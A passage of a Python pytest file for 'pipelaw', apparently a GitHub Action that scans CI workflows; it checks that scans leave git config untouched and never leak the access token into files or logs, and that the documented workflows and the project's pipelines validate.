    forge: tuple[str, list[list[str]]],
    persisted: bool,
) -> None:
    address, refused = forge
    run = checkout(Run(tmp_path, python), origin, origin.merge)
    run.event(pull(origin), "refs/pull/7/merge")
    run.environment["GITHUB_SERVER_URL"] = address
    if persisted:  # what a checkout leaves; git would send both, and be refused
        name = f"http.{address}/.extraheader"
        git(run.workspace, "config", name, "AUTHORIZATION: basic b2xk")
    settings = run.workspace / ".git" / "config"
    before = settings.read_text()
    trace = tmp_path / "trace"
    run.environment["GIT_TRACE_CURL"] = str(trace)
    assert run.scan() == 1, run.log
    assert refused == []
    assert rules_in(run.outputs["sarif"]) == [NEW]
    assert settings.read_text() == before
    assert not trace.exists()
    secrets = (TOKEN, b64encode(f"x-access-token:{TOKEN}".encode()).decode())
    kept = [path for path in tmp_path.rglob("*") if path.is_file()]
    assert not [path for path in kept if any(s.encode() in path.read_bytes() for s in secrets)]
    assert not any(secret in run.log for secret in secrets)


def test_a_refused_token_says_what_to_do(
    tmp_path: Path, python: Path, origin: Origin, forge: tuple[str, list[list[str]]]
) -> None:
    address, refused = forge
    run = checkout(Run(tmp_path, python, token=""), origin, origin.merge)
    run.event(pull(origin), "refs/pull/7/merge")
    run.environment["GITHUB_SERVER_URL"] = address
    assert run.scan() == 2
    assert refused
    assert "contents: read" in run.outputs["reason"]


# --- what is said about it


@pytest.mark.parametrize("kind", ["inputs", "outputs"])
def test_the_document_has_every_input_and_output(kind: str) -> None:
    section = DOCUMENT.partition(f"\n## {kind.capitalize()}\n")[2].partition("\n## ")[0]
    assert re.findall(r"(?m)^\| `([\w-]+)`", section) == list(ACTION[kind])


def blocks() -> list[str]:
    return [
        text.replace("<commit>", "1" * 40)
        for text in re.findall(r"```yaml\n(.*?)```", DOCUMENT, re.DOTALL)
        if "\njobs:" in text
    ]


@pytest.mark.parametrize("text", blocks())
def test_the_documents_workflows_are_fine_by_pipelaw(
    tmp_path: Path, text: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    flow = tmp_path / FLOW
    flow.parent.mkdir(parents=True)
    flow.write_text(text)
    monkeypatch.chdir(tmp_path)
    assert main(["scan", "--policy", "pipelaw:default", "--fail-on", "low"]) == 0
    used = [
        step
        for job in yaml.safe_load(text)["jobs"].values()
        for step in job["steps"]
        if step.get("uses", "").startswith("pipelaw/pipelaw@")
    ]
    assert used
    for step in used:
        assert step.get("with", {}).keys() <= ACTION["inputs"].keys()


def test_it_is_a_valid_action() -> None:
    validate("github-actions", ACTION)


@pytest.mark.parametrize("text", blocks())
def test_the_documents_workflows_are_valid(text: str) -> None:
    validate("github-workflows", yaml.safe_load(text.replace("\non:", '\n"on":')))


@pytest.mark.parametrize(
    ("schema", "path"),
    [
        *(("github-workflows", path) for path in (ROOT / ".github/workflows").iterdir()),
        ("dependabot", ROOT / ".github/dependabot.yml"),
    ],
    ids=lambda value: Path(value).name,
)
def test_the_projects_own_pipelines_are_valid(schema: str, path: Path) -> None:
    validate(schema, yaml.safe_load(path.read_text("utf-8").replace("\non:", '\n"on":')))
